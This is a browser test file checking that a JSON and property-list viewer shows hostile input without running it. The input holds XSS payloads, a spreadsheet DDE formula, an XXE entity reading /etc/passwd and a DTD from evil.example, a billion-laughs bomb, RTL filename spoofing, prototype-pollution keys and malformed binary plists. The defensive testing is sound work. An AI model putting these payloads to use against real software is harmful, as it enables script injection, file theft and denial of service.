// Input that wants to do something to the page or to the person: each is opened, shown for what it is, and nothing of it runs.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { checkin, file, openFiles, row, start, withPage } from './harness.mjs';

let site;
before(async () => { site = await start(); });
after(async () => { await site?.stop(); });

const head = '<?xml version="1.0" encoding="UTF-8"?>\n';
const plist = body => `<plist version="1.0">${body}</plist>`;
const img = '<img src=x onerror="window.ran=1">';
const script = '<script>window.ran=1</script><svg onload="window.ran=1">';
const deep = 100_000;

/** A binary property list of these objects (bytes each), the first on top. */
function binary(objects, { refSize = 1, count = objects.length, top = 0 } = {}) {
  const parts = [Buffer.from('bplist00')], offsets = [];
  let at = 8;
  for (const object of objects) { offsets.push(at); parts.push(Buffer.from(object)); at += object.length; }
  const trailer = Buffer.alloc(32);
  trailer[6] = 2;
  trailer[7] = refSize;
  trailer.writeBigUInt64BE(BigInt(count), 8);
  trailer.writeBigUInt64BE(BigInt(top), 16);
  trailer.writeBigUInt64BE(BigInt(at), 24);
  const table = Buffer.alloc(2 * offsets.length);
  offsets.forEach((offset, n) => table.writeUInt16BE(offset, 2 * n));
  return Buffer.concat([...parts, table, trailer]);
}

/** What is opened, by file name: `row` is a path that must be shown, `value` what stands in it, `says` what a person is told. */
const cases = {
  [`${img}.json`]: { text: JSON.stringify({ [img]: script, 'javascript:window.ran=1': 'javascript:window.ran=1', href: '"><script>window.ran=1</script>' }), row: '/href', value: '"><script>window.ran=1</script>' },
  'markup.plist': { text: head + plist(`<dict><key>UDID</key><string><![CDATA[${script}]]></string><key>&lt;b&gt;</key><string>&lt;img src=x onerror=window.ran=1&gt;</string></dict>`), row: '/<b>', value: '<img src=x onerror=window.ran=1>' },
  'formula.json': { text: JSON.stringify({ '=HYPERLINK("http://evil.example")': '=cmd|\' /C calc\'!A0', '@SUM(1)': '+1+1', '-2': '\t=1' }), row: '/@SUM(1)', value: '+1+1' },
  'invoice\u202Efdp.plist': { text: JSON.stringify({ 'key\u202Eyek': 'user\u202Enimda', hidden: 'a\u200Bb\u2066c\u2069' }), row: '/hidden', value: 'a⟦U+200B⟧b⟦U+2066⟧c⟦U+2069⟧' },
  'nul.json': { text: '{"a\\u0000b":"c\\u0000d","bell":"\\u0007\\u001b[31m"}', row: '/bell', value: '␇␛[31m' },
  'raw-nul.json': { text: '{"a":"b\0c","d":1}', row: '/d', value: '1' },
  'raw-nul.plist': { text: head + plist('<dict><key>a\0</key><string>b</string></dict>'), row: '/a\0', value: 'b' },
  'deep.json': { text: '['.repeat(deep) + ']'.repeat(deep), row: '/0' },
  'deep-open.json': { text: '{"a":'.repeat(deep), row: '/a', says: /The input ends inside the object that starts at byte 499995/ },
  'deep.plist': { text: head + plist('<array>'.repeat(deep) + '</array>'.repeat(deep)), row: '/0' },
  'deep-dict.plist': { text: head + plist('<dict><key>a</key>'.repeat(deep) + '<true/>' + '</dict>'.repeat(deep)), row: '/a' },
  'surrogates.json': { text: '{"high":"\\ud800","low":"x\\udc00y","pair":"\\ud83d\\ude00","turned":"\\ude00\\ud83d"}', row: '/pair', value: '😀' },
  'not-utf8.json': { text: Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xff, 0xc0, 0xaf, 0xed, 0xa0, 0x80]), Buffer.from('","b":1}')]), says: /byte 6: This is not UTF-8/ },
  'not-utf8.plist': { text: Buffer.concat([Buffer.from(head + '<plist version="1.0"><dict><key>a</key><string>'), Buffer.from([0xff, 0xfe, 0x80]), Buffer.from('</string><key>b</key><true/></dict></plist>')]), row: '/b', says: /This text is not UTF-8/ },
  'laughs.plist': {
    text: `<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>${plist('<dict><key>a</key><string>&d;</string><key>b</key><true/></dict>')}`,
    row: '/a',
    value: '&d;',
    says: /none of them is expanded/,
  },
  'external.plist': { text: `<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://evil.example/y.dtd">%y;]>${plist('<dict><key>a</key><string>&x;</string><key>b</key><true/></dict>')}`, row: '/a', value: '&x;', says: /none of them is expanded/ },
  'characters.plist': { text: head + plist('<dict><key>a</key><string>&#0;&#x110000;&#xD800;&nosuch;&amp;lt;</string><key>b</key><true/></dict>'), row: '/a', value: '&#0;&#x110000;&#xD800;&nosuch;&lt;', says: /is not an entity/ },
  'cycle.plist': { text: binary([[0xa1, 0]]), row: '/0', value: 'the whole document again', says: /A container contains itself/ },
  'cycle-in-dict.plist': { text: binary([[0xd1, 1, 0], [0x51, 0x61]]), row: '/a', says: /A container contains itself/ },
  // Each level holds the next ten times over: 10^30 values in some hundred bytes.
  'shared.plist': { text: binary([...Array.from({ length: 30 }, (_, n) => [0xaa, ...Array(10).fill(n + 1)]), [0x51, 0x61]]), row: '/0' },
  'lying-count.plist': { text: binary([[0x51, 0x61]], { count: 2 ** 40 }), says: /does not fit the file/ },
  'lying-reference.plist': { text: binary([[0xa2, 200, 1], [0x51, 0x61]]), says: /Object 200 is not in the table/ },
  'lying-length.plist': { text: binary([[0x5f, 0x13, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x61]]), says: /larger than any file/ },
  'twice.json': { text: '{"a":1,"a":2,"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}},"toString":3}', row: '/__proto__/ran', value: '1' },
  'long-key.json': { text: JSON.stringify({ ['k'.repeat(1_000_000)]: 1, b: 2 }), row: '/b', value: '2' },
  'empty.plist': { text: '', says: /This is an empty file/ },
};

/** A name as the page writes it. */
const seen = name => name.replace('\u202E', '⟦U+202E⟧');

test('hostile_input_is_shown_for_what_it_is_and_nothing_of_it_runs', () => withPage(site, async page => {
  const out = join(import.meta.dirname, '../out');
  if (process.env.SHOTS) mkdirSync(out, { recursive: true });
  page.on('dialog', dialog => { dialogs.push(dialog.message()); dialog.dismiss(); });
  const dialogs = [];
  await openFiles(page, file('kept.plist', checkin));
  await page.waitForSelector(row('/UDID'));
  for (const [n, [name, { text, row: path, value, says }]] of Object.entries(cases).entries()) {
    await openFiles(page, file(name, text));
    await page.waitForFunction(count => document.querySelector('.docs h2')?.textContent === count, `${n + 2} documents`);
    await page.evaluate(() => document.querySelector('.docs .list').scrollTo(0, 1e6));
    const line = page.locator('.doc', { hasText: seen(name).slice(0, 40) });
    await line.click();
    const wants = { path, value, says: says?.source, name: seen(name) };
    const shows = ({ path, value, says, name }) => {
      if (document.body.dataset.state === 'loading' || !document.querySelector('.head')?.textContent.includes(name)) return false;
      const found = [...document.querySelectorAll('[role=row][data-path]')].find(row => row.dataset.path === path);
      const problem = document.querySelector('.problem')?.textContent ?? '';
      return (path === undefined || found) && (value === undefined || found.querySelector('[data-cell=value]').textContent === value) && (says === undefined || new RegExp(says).test(problem));
    };
    await page.waitForFunction(shows, wants, { timeout: 15_000 }).catch(async () => assert.fail(
      `${name}: ${JSON.stringify(wants)}, but the page shows ${await page.evaluate(() => [...document.querySelectorAll('.problem, [role=row][data-path]')].slice(0, 6).map(part => part.textContent).join(' / '))}`,
    ));
    if (process.env.SHOTS) await page.screenshot({ path: join(out, `hostile-${n}.png`), caret: 'initial' });
  }
  const { ran, title, longest } = await page.evaluate(() => ({ ran: window.ran ?? {}.ran, title: document.title, longest: window.longest }));
  assert.equal(ran, undefined, 'something of the input was run');
  assert.deepEqual(dialogs, []);
  assert.doesNotMatch(title, /\u202E/);
  assert.ok(longest < 3_000, `the page was deaf for ${longest} ms`);
  await page.evaluate(() => document.querySelector('.docs .list').scrollTo(0, 0));
  await page.locator('.doc >> nth=0').click();
  await page.waitForSelector(`${row('/UDID')}[data-field="TokenUpdate/UDID"]`);
}));

test('no_cell_of_the_csv_is_a_formula', () => withPage(site, async page => {
  await page.waitForSelector('[data-panel=table] [role=row][data-field]');
  await page.click('.facets button:has-text("Everything")');
  await page.waitForFunction(() => /\d,\d\d\d fields/.test(document.querySelector('[data-panel=table] h1').textContent));
  await page.click('[data-do=exports] summary');
  await page.click('[data-do=csv]');
  await page.waitForFunction(() => document.querySelector('.toast').textContent.includes('CSV'));
  const csv = await page.evaluate(() => navigator.clipboard.readText());
  const cells = csv.match(/"(?:[^"]|"")*"|[^,\r\n]+/g).map(cell => cell.replace(/^"/, ''));
  assert.ok(cells.length > 10_000, `only ${cells.length} cells`);
  assert.deepEqual(cells.filter(cell => /^[=+\-@\t\r]/.test(cell)), []);
}, { hash: '#/table' }));
